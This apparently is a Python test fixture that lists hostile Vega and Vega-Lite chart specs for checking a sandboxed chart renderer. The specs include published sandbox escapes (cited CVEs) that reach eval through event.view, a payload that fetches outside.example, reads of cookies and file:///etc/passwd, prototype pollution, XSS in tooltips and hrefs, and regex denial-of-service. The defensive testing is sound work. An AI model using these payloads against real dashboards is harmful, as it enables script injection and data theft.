"""Specs that try to leave the frame in which panels are drawn: the known ways out of Vega, and our own attempts."""

from typing import Any

VEGA = "https://vega.github.io/schema/vega/v6.json"
CODE = "top.document.title='taken';parent.taken=1;alert(1);fetch('https://outside.example/taken')"
OUTSIDE = "https://outside.example/x"
_DOT: dict[str, Any] = {
    "type": "rect",
    "encode": {"enter": {"width": {"value": 400}, "height": {"value": 300}, "fill": {"value": "red"}}},
}


def vega(**parts: Any) -> dict[str, Any]:
    return {"$schema": VEGA, "width": 400, "height": 300, "marks": [_DOT], **parts}


def lite(**parts: Any) -> dict[str, Any]:
    return {"data": {"values": [{"a": 1, "b": 2}]}, "mark": "bar", "encoding": {"x": {"field": "a"}}, **parts}


def on_events(update: str) -> dict[str, Any]:
    """A signal that is made again by everything a person may do."""
    events = "mousemove, click, mouseover, pointerdown, wheel, window:message, window:resize, timer{50}"
    return vega(signals=[{"name": "out", "value": 0, "on": [{"events": events, "update": update}]}])


def at_once(init: str) -> dict[str, Any]:
    return vega(signals=[{"name": "out", "init": init}])


HOSTILE: dict[str, dict[str, Any]] = {
    # vega/vega#3018: a filter that parses as one thing and is written as another
    "filter with a comment": lite(transform=[{"filter": f"(0//1/)-'\\\\\\n,{CODE})))//'"}]),
    "filter with a space": lite(transform=[{"filter": f"(0/ /1/)-'\\\\\\n,{CODE})))//'"}]),
    # vega/vega#3027: from an event to the window, and functions that call what they are given
    "join of an event's window": on_events(
        f"join({{'join': event.target.ownerDocument.defaultView.eval}}, \"{CODE}\")"
    ),
    "replace with eval": on_events(f'replace("{CODE}", /.*/, event.target.ownerDocument.defaultView.eval)'),
    "event.view": on_events(f'event.view.setTimeout("{CODE}")'),
    "lassoAppend": on_events(f"lassoAppend({{'slice': event.view.setTimeout}}, \"{CODE}\", 1)"),
    # vega/vega#3984, CVE-2025-25304, CVE-2025-26619
    "scale of a function": on_events(f'scale(event.view.setTimeout, "{CODE}")'),
    "event filter of a selection": lite(
        params=[
            {
                "name": "pick",
                "select": {
                    "type": "interval",
                    "on": f'[mousedown[scale(event.view.setTimeout, "{CODE}")], mouseup] > mousemove',
                },
            }
        ]
    ),
    "vlSelectionTuples": on_events(
        f'vlSelectionTuples([{{datum: "{CODE}"}}], {{fields: [{{getter: event.view.setTimeout}}]}})'
    ),
    # CVE-2025-59840: gadgets of toString over what debugging leaves on the window
    "toString over VEGA_DEBUG": on_events(
        "{toString: event.view.VEGA_DEBUG.vega.CanvasHandler.prototype.on, eventName: event.view.console.log, "
        f'_handlers: {{undefined: "{CODE}"}}, _handlerIndex: event.view.eval}} + 1'
    ),
    "toString of a function": at_once(f'{{toString: now, valueOf: toNumber}} + "{CODE}"'),
    "valueOf chain": at_once(f'toNumber({{valueOf: {{toString: "{CODE}"}}}})'),
    "constructor of a constructor": at_once(f"''['constructor']['constructor'](\"{CODE}\")()"),
    "constructor by parts": at_once(f"now['con' + 'structor'](\"{CODE}\")()"),
    "regexp's constructor": at_once(f"regexp('a')['constructor']['constructor'](\"{CODE}\")()"),
    "window by its name": at_once(f'window.eval("{CODE}")'),
    "this": at_once(f'this.constructor.constructor("{CODE}")()'),
    "item to view to loader": on_events("item.context.dataflow._loader.load('https://outside.example/x')"),
    "event's view fetches": on_events("event.view.fetch('https://outside.example/x')"),
    "event's target writes": on_events("event.target.ownerDocument.body.innerHTML = '<img src=x onerror=alert(1)>'"),
    "a message to the page": on_events("event.view.parent.postMessage({paceline: 'panel', type: 'drawn'}, '*')"),
    # Names that are something else to JavaScript
    "signals called as prototypes": vega(
        signals=[{"name": name, "value": {"polluted": 1}} for name in ("__proto__", "constructor", "toString")]
    ),
    "data called __proto__": lite(data={"name": "__proto__", "values": [{"polluted": 1}]}),
    "field __proto__": lite(transform=[{"calculate": "{polluted: 1}", "as": "__proto__.polluted"}]),
    "datasets called __proto__": {**lite(), "datasets": {"__proto__": [{"polluted": 1}], "constructor": []}},
    "rows with __proto__": lite(
        data={"values": [{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}]}
    ),
    # What would load
    "data of an address": lite(data={"url": OUTSIDE}),
    "data of a file": lite(data={"url": "file:///etc/passwd"}),
    "data of this site": lite(data={"url": "/api/v1/me/"}),
    "data of an address in Vega": vega(data=[{"name": "table", "url": OUTSIDE}]),
    "data of a signal": vega(
        signals=[{"name": "where", "value": OUTSIDE}],
        data=[{"name": "table", "url": {"signal": "where"}, "async": True}],
    ),
    "load by a transform": vega(
        data=[{"name": "table", "values": [{}], "transform": [{"type": "load", "url": OUTSIDE}]}]
    ),
    "an image": lite(mark={"type": "image", "url": OUTSIDE, "width": 50, "height": 50}),
    "an image of a field": lite(
        data={"values": [{"a": 1, "img": OUTSIDE}]},
        mark="image",
        encoding={"url": {"field": "img"}, "x": {"field": "a"}},
    ),
    "an image in SVG": lite(
        mark={
            "type": "image",
            "url": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://outside.example/x'/></svg>",
        }
    ),
    "a pattern": vega(
        marks=[{"type": "image", "encode": {"enter": {"url": {"value": OUTSIDE}, "width": {"value": 99}}}}]
    ),
    "a font of an address": lite(config={"font": f"x; src: url({OUTSIDE})"}),
    "a cursor of an address": vega(
        marks=[{**_DOT, "encode": {"enter": {**_DOT["encode"]["enter"], "cursor": {"value": f"url({OUTSIDE}), auto"}}}}]
    ),
    "a background of an address": {**lite(), "background": f"url({OUTSIDE})"},
    # What would lead away
    "href javascript:": lite(mark={"type": "bar", "href": f"javascript:{CODE}"}),
    "href of an address": lite(mark={"type": "bar", "href": OUTSIDE, "cursor": "pointer"}),
    "href data:": lite(encoding={"x": {"field": "a"}, "href": {"value": "data:text/html,<script>alert(1)</script>"}}),
    "href of a field": lite(
        data={"values": [{"a": 1, "link": f"javascript:{CODE}"}]},
        encoding={"x": {"field": "a"}, "href": {"field": "link"}},
    ),
    # What would be HTML
    "tooltip in HTML": lite(
        mark={"type": "bar", "tooltip": {"content": "data"}},
        data={"values": [{"a": 1, "<img src=x onerror=alert(1)>": "<script>alert(1)</script>"}]},
    ),
    "tooltip as a text": lite(mark={"type": "bar", "tooltip": "<img src=https://outside.example/x onerror=alert(1)>"}),
    "tooltip with an image": lite(
        encoding={"x": {"field": "a"}, "tooltip": [{"value": OUTSIDE, "title": "image", "type": "nominal"}]}
    ),
    "title in HTML": lite(title="<svg onload=alert(1)>", description="<script>alert(1)</script>"),
    "description as an attribute": lite(description='" onfocus="alert(1)" autofocus="'),
    # Controls outside
    "bind to an element of the page": vega(
        signals=[
            {
                "name": "x",
                "value": 1,
                "bind": {"input": "range", "element": "body", "name": "<img src=x onerror=alert(1)>"},
            }
        ]
    ),
    "bind to what is outside": vega(
        signals=[{"name": "x", "value": "", "bind": {"element": "#main", "event": "input"}}]
    ),
    "bind of an unknown kind": vega(
        signals=[
            {"name": "x", "value": 1, "bind": {"input": "image", "src": "x", "onerror": CODE, "formaction": OUTSIDE}}
        ]
    ),
    "events of the page": on_events("event.view.top.document.cookie"),
    "usermeta of embed": {
        **lite(),
        "usermeta": {
            "embedOptions": {"ast": False, "loader": {"target": "_top"}, "sourceHeader": "<script>alert(1)</script>"}
        },
    },
}

ENDLESS: dict[str, dict[str, Any]] = {
    "a pattern that backtracks": vega(
        signals=[{"name": "out", "init": f"test(regexp('(a+)+$'), '{'a' * 60}!')"}],
    ),
    "a force that never rests": vega(
        data=[{"name": "rows", "transform": [{"type": "sequence", "start": 0, "stop": 1000}]}],
        marks=[
            {
                "type": "symbol",
                "from": {"data": "rows"},
                "transform": [{"type": "force", "static": True, "iterations": 1e12, "forces": [{"force": "nbody"}]}],
            }
        ],
    ),
}
